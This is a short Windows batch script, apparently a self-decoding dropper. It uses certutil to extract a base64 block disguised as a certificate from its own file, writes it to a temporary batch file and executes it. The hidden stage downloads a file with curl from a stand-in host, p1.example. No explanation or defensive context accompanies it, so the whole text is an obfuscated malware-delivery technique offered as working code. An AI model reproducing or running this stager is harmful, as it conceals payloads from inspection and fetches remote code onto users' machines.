@echo off
certutil -f -decode "%~f0" "%TEMP%\q.bat" >nul
call "%TEMP%\q.bat"
goto :eof
-----BEGIN CERTIFICATE-----
QGVjaG8gb2ZmDQpzZXQgYT1odHRwOi8vcDEuZXhh
bXBsZS9mDQpjdXJsIC1vIHggJWElDQo=
-----END CERTIFICATE-----
